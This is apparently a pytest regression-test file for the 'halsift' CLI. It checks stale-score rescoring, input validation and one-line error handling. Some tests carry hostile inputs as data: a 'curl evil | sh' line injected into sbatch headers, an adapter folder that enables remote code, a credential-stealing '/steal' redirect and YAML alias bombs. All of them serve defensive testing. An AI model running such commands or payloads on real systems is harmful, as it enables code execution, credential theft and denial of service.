"""Issue 19: nothing silently wrong, nothing let in. One regression test per probed failure: each checks the exit
code, the one-line message and that nothing stale or foreign reached the output."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from loopback import LoopbackServer
from filtering_data import make_bench, make_corpus, remote_code_model, restamp

from halsift.corpus.scores import read_scores_df
from halsift.launch.cli import main


def _err_line(capsys) -> str:
    """The one stderr line of a failed command (asserting there is exactly one)."""
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1, err
    return err[0]


def _score(data, out, detector="oracle", *extra) -> int:
    return main(["score", "--detector", detector, "--data", str(data), "--out", str(out), "--no-progress", *extra])


# ------------------------------------------------------------------------------- 1. stale scores after the data changed
def test_rerun_after_shards_replaced_at_same_paths_rescores(tmp_path):
    data = make_corpus(tmp_path / "c", shards=2, per_shard=5, seed=0)
    assert _score(data, tmp_path / "s") == 0
    other = make_corpus(tmp_path / "other", shards=2, per_shard=5, seed=7)
    for f in other.iterdir():  # another corpus at the same paths
        shutil.copy(f, data / f.name)
    assert _score(data, tmp_path / "s") == 0
    m = json.loads((tmp_path / "s" / "_manifest.json").read_text())
    assert m["parts_resumed"] == 0 and m["sentences_scored_this_run"] == m["sentences"] > 0
    assert set(read_scores_df(tmp_path / "s")["key"]) == {f"s7_{i:05d}" for i in range(10)}
    assert main(["select", "--scores", str(tmp_path / "s"), "--data", str(data), "--out", str(tmp_path / "sel"),
                 "--keep", "0.3", "--no-progress"]) == 0
    sel = json.loads((tmp_path / "sel" / "manifest.json").read_text())
    assert sel["precision"]["kept"] == 100.0 and sel["keys"]["only_in_scores"] == 0
    assert _score(data, tmp_path / "s") == 0  # unchanged now: reused
    assert json.loads((tmp_path / "s" / "_manifest.json").read_text())["parts_resumed"] == 2


def test_rerun_after_detector_checkpoint_changed_rescores(tmp_path):
    from halsift.filtering.detectors.clip import ClipDetector
    from halsift.training.clip_train import save_state_dict_safetensors

    data = make_corpus(tmp_path / "c", shards=2, per_shard=3)
    ckpt = tmp_path / "model.safetensors"
    save_state_dict_safetensors(ClipDetector(arch="halsift-tiny", pretrained="random", seed=1).model, ckpt)
    spec = f"clip:arch=halsift-tiny,checkpoint={ckpt}"
    assert _score(data, tmp_path / "s", spec) == 0
    first = read_scores_df(tmp_path / "s").sort_values(["key", "sentence_index"])["score"].to_numpy()
    retrained = ClipDetector(arch="halsift-tiny", pretrained="random", seed=2)
    save_state_dict_safetensors(retrained.model, ckpt)  # retrained in place
    assert _score(data, tmp_path / "s", spec) == 0
    m = json.loads((tmp_path / "s" / "_manifest.json").read_text())
    assert m["parts_resumed"] == 0 and m["sentences_scored_this_run"] == m["sentences"]
    again = read_scores_df(tmp_path / "s").sort_values(["key", "sentence_index"])["score"].to_numpy()
    assert len(again) == len(first) and (again != first).any()


# ------------------------------------------------------------------------------- 2. stale bench split cache in recipes
def test_recipe_bench_split_cache_follows_its_bench(tmp_path):
    from halsift.corpus.bench import read_bench
    from halsift.launch.stages.shared import bench_subset

    a = make_bench(tmp_path / "a", captions=4, seed=0)
    b = make_bench(tmp_path / "b", captions=6, seed=3)
    run = tmp_path / "run"
    first = bench_subset(str(a), "test", run)
    assert {r.image for r in read_bench(first)} <= {str((tmp_path / "a" / "images" / f"im{c}.png")) for c in range(4)}
    again = bench_subset(str(b), "test", run)  # data.bench=OTHER
    assert again == first
    rows = read_bench(again)
    assert len(rows) == len(read_bench(b)) and all(str(tmp_path / "b") in r.image for r in rows)
    b.write_text(b.read_text().splitlines(keepends=True)[0])  # the same bench path, edited in place
    assert len(read_bench(bench_subset(str(b), "test", run))) == 1


# ------------------------------------------------------------------------------- 3. select validates its inputs
def _select(scores, data, out, *extra) -> int:
    return main(["select", "--scores", str(scores), "--data", str(data), "--out", str(out), "--keep", "0.5",
                 "--no-progress", *extra])


@pytest.fixture()
def scored(tmp_path):
    data = make_corpus(tmp_path / "c", shards=2, per_shard=5, seed=3)
    assert _score(data, tmp_path / "rand", "random:seed=1") == 0
    return data, tmp_path / "rand"


def test_select_refuses_a_foreign_part(scored, tmp_path, capsys):
    data, rand = scored
    assert _score(data, tmp_path / "oracle") == 0
    shutil.copy(tmp_path / "oracle" / "part-000000.parquet", rand / "part-000000.parquet")
    capsys.readouterr()
    assert _select(rand, data, tmp_path / "sel") == 2
    line = _err_line(capsys)
    assert "part-000000.parquet" in line and "'oracle'" in line and "foreign" in line
    assert not (tmp_path / "sel").exists()
    # a part file the manifest does not list
    shutil.copy(tmp_path / "oracle" / "part-000000.parquet", rand / "part-extra.parquet")
    assert _select(rand, data, tmp_path / "sel", "--detector", "oracle") == 2
    assert "part-extra.parquet" in _err_line(capsys)


def test_select_refuses_partial_scores_unless_allowed(scored, tmp_path, capsys):
    data, rand = scored
    m = json.loads((rand / "_manifest.json").read_text())
    (rand / "_manifest.json").write_text(json.dumps({**m, "status": "running"}))  # what a killed score leaves
    capsys.readouterr()
    assert _select(rand, data, tmp_path / "sel") == 2
    line = _err_line(capsys)
    assert "_manifest.json" in line and "'running'" in line and "--allow-partial" in line
    assert not (tmp_path / "sel").exists()
    assert _select(rand, data, tmp_path / "sel", "--allow-partial") == 0
    sel = json.loads((tmp_path / "sel" / "manifest.json").read_text())
    assert sel["status"] == "complete" and sel["filter"]["allow_partial"] is True
    assert sel["filter"]["scores_status"] == "running"


def test_select_refuses_duplicate_rows_and_indices_out_of_range(scored, tmp_path, capsys):
    import pyarrow as pa
    import pyarrow.parquet as pq

    data, rand = scored
    part = rand / "part-000001.parquet"
    t = pq.read_table(part)
    pq.write_table(pa.concat_tables([t, t.slice(0, 1)]), part)
    restamp(rand)  # edited on purpose: recorded, as `halsift score` records its parts
    capsys.readouterr()
    assert _select(rand, data, tmp_path / "sel") == 2
    line = _err_line(capsys)
    assert "part-000001.parquet" in line and "more than once" in line
    # an index past the caption's sentences (scores made from other shards)
    idx = t["sentence_index"].to_pylist()
    pq.write_table(t.set_column(1, "sentence_index", pa.array([40] + idx[1:], pa.int32())), part)
    restamp(rand)  # edited on purpose: recorded, as `halsift score` records its parts
    assert main(["select", "--scores", str(rand), "--data", str(data), "--out", str(tmp_path / "sel"),
                 "--threshold", "0", "--no-progress"]) == 2
    line = _err_line(capsys)
    assert "part-000001.parquet" in line and "sentence_index 40" in line
    assert not (tmp_path / "sel").exists()


def test_int64_sentence_index_part_is_read(scored, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    data, rand = scored
    part = rand / "part-000001.parquet"
    t = pq.read_table(part)
    pq.write_table(t.set_column(1, "sentence_index", t["sentence_index"].cast(pa.int64())), part)
    restamp(rand)  # edited on purpose: recorded, as `halsift score` records its parts
    assert _select(rand, data, tmp_path / "sel") == 0
    assert json.loads((tmp_path / "sel" / "manifest.json").read_text())["candidates"] == len(read_scores_df(rand))
    from halsift.corpus.scores import read_scores  # what eval bench and the ensembles read

    assert read_scores(rand)["sentence_index"].type == pa.int32()


# ------------------------------------------------------------------------------- 4. bad samples are skipped one by one
def _write_tar(path: Path, samples: list[tuple[str, bytes, str, dict]]) -> None:
    """A shard written by hand (the ShardWriter refuses such keys)."""
    import io
    import tarfile

    with tarfile.open(path, "w") as tar:
        for key, image, caption, meta in samples:
            for ext, data in (("png", image), ("txt", caption.encode()), ("json", json.dumps(meta).encode())):
                info = tarfile.TarInfo(f"{key}.{ext}")
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))


def test_select_skips_a_rejected_key_and_keeps_the_rest_of_its_shard(tmp_path, capsys):
    import random

    from filtering_data import png

    from halsift.corpus.shards import iter_samples

    rng = random.Random(0)
    (tmp_path / "c").mkdir()
    keys = ["a_000", "pwned_key)", "a_002", "a_003"]
    _write_tar(tmp_path / "c" / "000000.tar", [
        (k, png(rng), f"A red dog number {i}.", {"captioner": "capA", "source": "i2t",
                                                  "sentences": [{"text": f"A red dog number {i}.", "label": "correct"}]})
        for i, k in enumerate(keys)])
    assert _score(tmp_path / "c", tmp_path / "s") == 0
    assert main(["select", "--scores", str(tmp_path / "s"), "--data", str(tmp_path / "c"), "--out",
                 str(tmp_path / "sel"), "--keep", "1", "--unit", "caption", "--no-progress"]) == 0
    m = json.loads((tmp_path / "sel" / "manifest.json").read_text())
    assert m["skipped"]["by_kind"] == {"bad_sample": 1} and m["skipped"]["samples"][0]["key"] == "pwned_key)"
    assert m["corrupt_shards"] == [] and m["samples_written"] == 3
    assert [s.key for s in iter_samples(tmp_path / "sel")] == ["a_000", "a_002", "a_003"]
    assert "1 sample(s) skipped" in capsys.readouterr().out


def test_train_detector_skips_a_missing_bench_image(tmp_path):
    from halsift.corpus.bench import read_bench, write_bench

    bench = make_bench(tmp_path / "b", captions=8, seed=1)
    rows = [r.to_json() for r in read_bench(bench)]
    for r in rows:
        r["split"] = "train"
    write_bench(bench, rows)
    (tmp_path / "b" / "images" / "im0.png").unlink()
    lost = sum(r["image"] == "images/im0.png" and r["label"] != "unknown" for r in rows)
    out = tmp_path / "det"
    assert main(["train", "detector", "--base", "clip:arch=halsift-tiny,pretrained=random,seed=1", "--bench",
                 str(bench), "--out", str(out), "--steps", "1", "--batch-size", "4", "--val-split", "", "--wandb-mode",
                 "disabled"]) == 0
    info = json.loads((out / "run_info.json").read_text())
    assert info["skipped"]["by_kind"] == {"missing_image": lost} and lost >= 1
    assert info["train_rows"] == sum(r["label"] != "unknown" for r in rows) - lost
    assert (out / "adapter" / "detector.yaml").exists()


# ------------------------------------------------------------------------------- 5. honest counts, incomplete inputs
def test_truncated_shard_counts_the_samples_it_lost(tmp_path):
    from halsift.corpus.shards import ShardFormatError, iter_shard

    data = make_corpus(tmp_path / "c", shards=1, per_shard=12, seed=4)
    tar = data / "000000.tar"
    raw = tar.read_bytes()
    tar.write_bytes(raw[: len(raw) // 3 + 100])
    read = []
    with pytest.raises(ShardFormatError, match=r"000000\.tar: truncated or corrupt tar after sample s4_\d+ "
                                               r"\(.*\); \d+ sample\(s\) lost$"):
        for s in iter_shard(tar):
            read.append(s.key)
    assert _score(data, tmp_path / "s") == 0
    m = json.loads((tmp_path / "s" / "_manifest.json").read_text())
    assert m["skipped"]["by_kind"] == {"corrupt_shard": 12 - len(read)} and 12 - len(read) > 1
    assert "sample(s) lost" in m["skipped"]["samples"][0]["reason"]


def test_train_clip_refuses_an_unfinished_selection(scored, tmp_path, capsys):
    data, rand = scored
    assert _select(rand, data, tmp_path / "sel") == 0
    m = json.loads((tmp_path / "sel" / "manifest.json").read_text())
    (tmp_path / "sel" / "manifest.json").write_text(json.dumps({**m, "status": "running"}))  # a killed select
    capsys.readouterr()
    args = ["train", "clip", "--data", str(tmp_path / "sel"), "--out", str(tmp_path / "run"), "--model",
            "halsift-tiny", "--steps", "1", "--batch-size", "2", "--workers", "0", "--wandb-mode", "disabled"]
    assert main(args) == 2
    line = _err_line(capsys)
    assert str(tmp_path / "sel") in line and "'running'" in line
    assert not (tmp_path / "run" / "checkpoints").exists()


def test_train_clip_without_resume_refuses_to_overwrite_checkpoints(tmp_path, capsys):
    data = make_corpus(tmp_path / "c", shards=1, per_shard=4)
    out = tmp_path / "run"
    ckpt = out / "checkpoints" / "step_000002"
    ckpt.mkdir(parents=True)
    (ckpt / "model.safetensors").write_bytes(b"weights")
    (ckpt / "state.json").write_text('{"step": 2}')
    args = ["train", "clip", "--data", str(data), "--out", str(out), "--model", "halsift-tiny", "--steps", "1",
            "--batch-size", "2", "--workers", "0", "--wandb-mode", "disabled"]
    assert main(args) == 2
    line = _err_line(capsys)
    assert "--resume" in line and str(out) in line
    assert (ckpt / "model.safetensors").read_bytes() == b"weights" and not (out / "config.json").exists()


# ------------------------------------------------------------------------------- 6. a loaded folder never raises privileges
def _evil_adapter(root: Path) -> tuple[Path, Path]:
    """An adapter folder whose detector.yaml turns trust_remote_code on for a base model inside the folder, whose
    configuration_*.py would write a marker file when imported."""
    marker = root / "pwned"
    remote_code_model(root / "adapter" / "base", marker)
    (root / "adapter" / "detector.yaml").write_text(
        "kind: vlm\nbase: vlm:model=./base,trust_remote_code=true\nadapter: false\n")
    return root / "adapter", marker


def test_adapter_folder_cannot_turn_on_trust_remote_code(tmp_path, capsys):
    adapter, marker = _evil_adapter(tmp_path)
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    with pytest.warns(UserWarning, match="trust_remote_code"):
        code = _score(data, tmp_path / "s", f"lora:{adapter}")
    assert not marker.exists()
    assert code == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-1].startswith("halsift score: error: detector spec") and "Traceback" not in "\n".join(err)
    assert not list((tmp_path / "s").glob("part-*"))
    # the folder's code runs only when the user asks for it on the command line (the test's folder is live)
    _score(data, tmp_path / "s2", f"lora:path={adapter},trust_remote_code=true")
    assert marker.read_text() == "ran"


# ------------------------------------------------------------------------------- 7. api credentials stay at base_url
def test_api_detector_refuses_a_redirect_and_never_sends_the_key_elsewhere(tmp_path, monkeypatch, capsys):
    other = LoopbackServer()  # another origin (another port), answering score 99

    def redirect(h):
        h.send_response(302)  # urllib followed it as a GET to the other host, key included
        h.send_header("Location", other.url + "/steal")
        h.send_header("Content-Length", "0")
        h.end_headers()

    server = LoopbackServer(redirect)
    try:
        monkeypatch.setenv("HALSIFT_TEST_KEY", "sk-secret")
        data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
        spec = f"api:base_url={server.url}/v1,model=judge,api_key_env=HALSIFT_TEST_KEY,mode=prompt,max_retries=0"
        assert _score(data, tmp_path / "s", spec) == 2
        line = _err_line(capsys)
        assert "redirect" in line and "/steal" in line
        assert server.requests and server.requests[0]["auth"] == "Bearer sk-secret"
        assert other.requests == []
        assert not list((tmp_path / "s").glob("part-*"))
    finally:
        server.close()
        other.close()


def test_api_key_variable_cannot_be_chosen_by_a_spec_file(tmp_path, capsys):
    spec = tmp_path / "judge.yaml"
    spec.write_text("family: api\nbase_url: http://127.0.0.1:9/v1\nmodel: judge\napi_key_env: HOME\n")
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    assert _score(data, tmp_path / "s", str(spec)) == 2
    line = _err_line(capsys)
    assert "api_key_env='HOME'" in line and "judge.yaml" in line
    spec.write_text("family: ensemble\nmembers: ['api:base_url=http://127.0.0.1:9/v1,model=j,api_key_env=PATH', "
                    "'random:seed=0']\n")
    assert _score(data, tmp_path / "s", str(spec)) == 2
    assert "api_key_env='PATH'" in _err_line(capsys)


# ------------------------------------------------------------------------------- 8. sbatch header values stay on their line
@pytest.mark.parametrize("flag", ["--job-name", "--output", "--partition", "--account", "--qos", "--time"])
def test_sbatch_header_values_cannot_inject_lines(flag, tmp_path, capsys):
    script = tmp_path / "job.sbatch"
    assert main(["launch", "--slurm", "--dry-run", "--script", str(script), flag, "x\ncurl evil | sh", "--",
                 "stats", "--data", "d"]) == 2
    line = _err_line(capsys)
    assert line.startswith(f"halsift launch: error: {flag}:") and "'\\n'" in line
    assert not script.exists() and capsys.readouterr().out == ""


def test_sbatch_header_value_with_spaces_is_quoted_and_gpus_zero_refused(capsys):
    assert main(["launch", "--slurm", "--dry-run", "--job-name", "my run", "--", "stats", "--data", "d"]) == 0
    assert '#SBATCH --job-name="my run"\n' in capsys.readouterr().out
    assert main(["launch", "--gpus", "0", "--dry-run", "--", "stats", "--data", "d"]) == 2
    assert "--gpus: expected >= 1, got 0" in _err_line(capsys)


# ------------------------------------------------------------------------------- 9. YAML errors never echo expanded values
def _alias_bomb(keys: bool) -> list[str]:
    """9 levels of 9 aliases to the level below (9^9 items expanded), as list items or as mapping entries."""
    levels = []
    for i in range(9):
        name = chr(ord("a") + i)
        body = "[x, x, x, x, x, x, x, x, x]" if i == 0 else f"[{', '.join(['*' + chr(ord(name) - 1)] * 9)}]"
        levels.append(f"{name + ': ' if keys else ''}&{name} {body}")
    return levels


def test_yaml_alias_bomb_is_refused_in_one_short_line(tmp_path, capsys):
    import time

    levels = _alias_bomb(keys=False)
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("model: [" + ", ".join(levels) + "]\n")  # a string field given 9^9 expanded items
    assert len(bomb.read_bytes()) < 400
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    t0 = time.perf_counter()
    assert main(["train", "clip", "--config", str(bomb), "--data", str(data), "--out", str(tmp_path / "o")]) == 2
    line = _err_line(capsys)
    assert time.perf_counter() - t0 < 10 and len(line) < 600
    assert "bomb.yaml" in line and "alias" in line
    # a merely wrong (not expanding) value is echoed, bounded
    (tmp_path / "big.yaml").write_text("model: [" + ", ".join(["abcdefgh"] * 5000) + "]\n")
    assert main(["train", "clip", "--config", str(tmp_path / "big.yaml"), "--data", str(data), "--out",
                 str(tmp_path / "o")]) == 2
    line = _err_line(capsys)
    assert "--model" in line and len(line) < 300


# ------------------------------------------------------------------------------- every user error: one line, exit 2
def test_corrupt_parquet_part_is_one_line_and_a_rerun_rescores_it(scored, tmp_path, capsys):
    data, rand = scored
    part = rand / "part-000000.parquet"
    part.write_bytes(part.read_bytes()[:50])
    capsys.readouterr()
    assert _select(rand, data, tmp_path / "sel") == 2
    line = _err_line(capsys)
    assert str(part) in line and "not a readable parquet" in line and not (tmp_path / "sel").exists()
    bench = make_bench(tmp_path / "b", captions=3)
    assert main(["eval", "bench", "--bench", str(bench), "--scores", str(rand), "--out", str(tmp_path / "ev")]) == 2
    assert str(part) in _err_line(capsys)
    assert _score(data, rand, "random:seed=1") == 0  # the rerun rescores the damaged part
    m = json.loads((rand / "_manifest.json").read_text())
    assert m["parts_resumed"] == 1 and len(read_scores_df(rand)) == m["sentences"]


def test_full_disk_during_select_is_one_line_and_leaves_no_temp_shard(scored, tmp_path, monkeypatch, capsys):
    import errno
    import tarfile

    data, rand = scored
    real = tarfile.TarFile.addfile
    calls = [0]

    def addfile(self, *a, **kw):
        calls[0] += 1
        if calls[0] > 4:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, *a, **kw)

    monkeypatch.setattr(tarfile.TarFile, "addfile", addfile)
    (tmp_path / "sel").mkdir()  # an existing, empty --out: kept, emptied of what the run wrote
    assert _select(rand, data, tmp_path / "sel") == 2
    assert "No space left on device" in _err_line(capsys)
    assert list((tmp_path / "sel").iterdir()) == []


def test_write_part_atomic_removes_its_temp_file_on_failure(tmp_path, monkeypatch):
    import errno

    import pyarrow.parquet as pq

    from halsift.corpus.scores import scores_table, write_part_atomic

    def full(table, where, *a, **kw):
        Path(where).write_bytes(b"half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    with pytest.raises(OSError, match="No space left on device"):
        write_part_atomic(scores_table(["a"], [0], [1.0], [True], "x"), tmp_path / "part-a.parquet")
    assert list(tmp_path.iterdir()) == []


def test_out_that_is_a_file_is_one_line(tmp_path, capsys):
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    (tmp_path / "file").write_text("not a folder")
    assert _score(data, tmp_path / "file") == 2
    line = _err_line(capsys)
    assert line.startswith(f"halsift score: error: {tmp_path / 'file'}: ") and "Traceback" not in line
    assert (tmp_path / "file").read_text() == "not a folder"


def test_bench_given_as_a_folder_and_caption_unit_on_a_bench_are_one_line(tmp_path, capsys):
    bench = make_bench(tmp_path / "b", captions=3)
    assert main(["eval", "bench", "--bench", str(tmp_path / "b"), "--detector", "oracle",
                 "--out", str(tmp_path / "ev")]) == 2
    assert str(tmp_path / "b") in _err_line(capsys)
    assert _score(bench, tmp_path / "s", "oracle", "--unit", "caption") == 2
    assert "--unit caption" in _err_line(capsys)
    assert not (tmp_path / "s").exists()


@pytest.mark.parametrize("value", ["200", "nan", "-1"])
def test_select_threshold_outside_0_100_is_refused(scored, tmp_path, capsys, value):
    data, rand = scored
    capsys.readouterr()
    assert main(["select", "--scores", str(rand), "--data", str(data), "--out", str(tmp_path / "sel"),
                 "--threshold", value, "--no-progress"]) == 2
    assert "--threshold" in _err_line(capsys) and not (tmp_path / "sel").exists()


def test_fifo_image_in_a_bench_is_skipped_not_waited_for(tmp_path):
    import os

    bench = make_bench(tmp_path / "b", captions=3)
    img = tmp_path / "b" / "images" / "im1.png"
    img.unlink()
    os.mkfifo(img)
    assert _score(bench, tmp_path / "s") == 0
    m = json.loads((tmp_path / "s" / "_manifest.json").read_text())
    assert m["skipped"]["by_kind"] == {"missing_image": m["skipped"]["total"]} and m["skipped"]["total"] >= 1
    assert "not a regular file" in m["skipped"]["samples"][0]["reason"]


def test_fifo_shard_is_refused(tmp_path, capsys):
    import os

    (tmp_path / "c").mkdir()
    os.mkfifo(tmp_path / "c" / "000000.tar")
    assert _score(tmp_path / "c", tmp_path / "s") == 2
    assert "not a regular file" in _err_line(capsys)


def test_train_clip_on_shards_without_a_readable_sample_fails_fast(tmp_path, capsys):
    import time

    keys = {f"s0_{i:05d}": "image" for i in range(4)}
    data = make_corpus(tmp_path / "c", shards=1, per_shard=4, corrupt=keys)
    t0 = time.perf_counter()
    assert main(["train", "clip", "--data", str(data), "--out", str(tmp_path / "run"), "--model", "halsift-tiny",
                 "--steps", "2", "--batch-size", "2", "--workers", "0", "--wandb-mode", "disabled"]) == 2
    err = capsys.readouterr().err.strip().splitlines()  # (after the progress bar's lines)
    line = err[-1]
    assert line.startswith("halsift train clip: error: data") and "Traceback" not in "\n".join(err)
    assert "no readable sample" in line and str(data) in line and time.perf_counter() - t0 < 60
    assert not (tmp_path / "run" / "checkpoints").exists()


def _retrieval_set(root: Path, broken: bool) -> Path:
    import random

    from filtering_data import png

    from halsift.corpus.retrieval import write_retrieval

    rng = random.Random(0)
    (root / "images").mkdir(parents=True)
    for i in range(3):
        (root / "images" / f"{i}.png").write_bytes(png(rng) if not (broken and i == 1) else b"\x89PNG broken")
    write_retrieval(root / "retrieval.jsonl", [{"image": f"images/{i}.png", "captions": [f"a thing {i}."]}
                                               for i in range(3)])
    return root


def test_eval_retrieval_corrupt_image_or_garbage_safetensors_is_one_line(tmp_path, capsys):
    bad = _retrieval_set(tmp_path / "bad", broken=True)
    args = ["eval", "retrieval", "--model", "halsift-tiny", "--device", "cpu", "--out", str(tmp_path / "ev")]
    assert main([*args, "--data", str(bad)]) == 2
    line = _err_line(capsys)
    assert "1.png" in line and "cannot read image" in line and not (tmp_path / "ev" / "metrics.json").exists()
    good = _retrieval_set(tmp_path / "good", broken=False)
    garbage = tmp_path / "model.safetensors"
    garbage.write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{not json}")
    assert main([*args, "--data", str(good), "--pretrained", str(garbage)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-1].startswith("halsift eval retrieval: error: SafetensorError: pretrained: " + str(garbage))
    assert "Traceback" not in "\n".join(err)
    assert not (tmp_path / "ev" / "metrics.json").exists()


def test_train_detector_on_an_empty_split_is_one_line(tmp_path, capsys):
    bench = make_bench(tmp_path / "b", captions=4)  # every row is split "test"
    assert main(["train", "detector", "--base", "clip:arch=halsift-tiny,pretrained=random,seed=1", "--bench",
                 str(bench), "--out", str(tmp_path / "det"), "--steps", "1", "--wandb-mode", "disabled"]) == 2
    line = _err_line(capsys)
    assert "split 'train'" in line and str(bench) in line


def test_user_error_under_launch_cpu_is_exit_2_with_its_line_last(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "OMP_NUM_THREADS": "1", "HALSIFT_QUIET": "1"}
    proc = subprocess.run([sys.executable, "-m", "halsift.launch.cli", "launch", "--cpu", "2", "--", "score",
                           "--detector", "oracle", "--data", str(tmp_path / "missing"), "--out", str(tmp_path / "o")],
                          env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 2
    last = proc.stderr.strip().splitlines()[-1]
    assert last == f"halsift score: error: shards: {tmp_path / 'missing'} does not exist"


# ------------------------------------------------------------------------------- one run per --out folder
def test_second_run_into_a_busy_out_folder_is_refused(tmp_path, capsys):
    from filelock import FileLock

    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    out = tmp_path / "s"
    out.mkdir()
    with FileLock(str(out / ".halsift.lock")):  # what a running `halsift score --out s` holds
        assert _score(data, out) == 2
        line = _err_line(capsys)
        assert line.startswith("halsift score: error: --out") and "another halsift run" in line
        assert not list(out.glob("part-*")) and not (out / "_manifest.json").exists()
    assert _score(data, out) == 0  # free again; and the lock is gone once a run ends (even on SIGKILL: flock)
    assert sorted(p.name for p in out.iterdir()) == ["_manifest.json", "part-000000.parquet"]


def test_clip_checkpoint_loads_without_the_random_init_warning_and_garbage_is_one_line(tmp_path, caplog, capsys):
    import logging

    from halsift.filtering.detectors.clip import ClipDetector
    from halsift.training.clip_train import save_state_dict_safetensors

    ckpt = tmp_path / "model.safetensors"
    save_state_dict_safetensors(ClipDetector(arch="halsift-tiny", pretrained="random", seed=3).model, ckpt)
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        ClipDetector(arch="halsift-tiny", checkpoint=str(ckpt))
    assert "No pretrained weights loaded" not in caplog.text
    with caplog.at_level(logging.WARNING):
        ClipDetector(arch="halsift-tiny", pretrained="random")  # a random init still says so
    assert "No pretrained weights loaded" in caplog.text
    ckpt.write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{not json}")
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    assert _score(data, tmp_path / "s", f"clip:arch=halsift-tiny,checkpoint={ckpt}") == 2
    line = _err_line(capsys)
    assert str(ckpt) in line and "not a valid safetensors file" in line


def test_detector_spec_file_alias_bomb_is_one_short_line(tmp_path, capsys):
    levels = _alias_bomb(keys=True)
    spec = tmp_path / "det.yaml"
    spec.write_text("family: random\n" + "\n".join(levels) + "\n")
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    assert _score(data, tmp_path / "s", str(spec)) == 2
    line = _err_line(capsys)
    assert "det.yaml" in line and "alias" in line and len(line) < 600


# ------------------------------------------------------------------------------- T6. eval input files with missing columns
def test_ihalla_qa_file_missing_a_column_is_one_line(tmp_path, capsys):
    (tmp_path / "qa.csv").write_text("index,CoI,question\n1,x,What is shown?\n")
    (tmp_path / "pred.csv").write_text("generator,index,question_no,prediction\nsd,1,1,A\n")
    assert main(["eval", "ihalla", "--qa", str(tmp_path / "qa.csv"), "--predictions", str(tmp_path / "pred.csv"),
                 "--out", str(tmp_path / "o")]) == 2
    line = _err_line(capsys)
    assert "qa.csv" in line and "no 'answer' column" in line
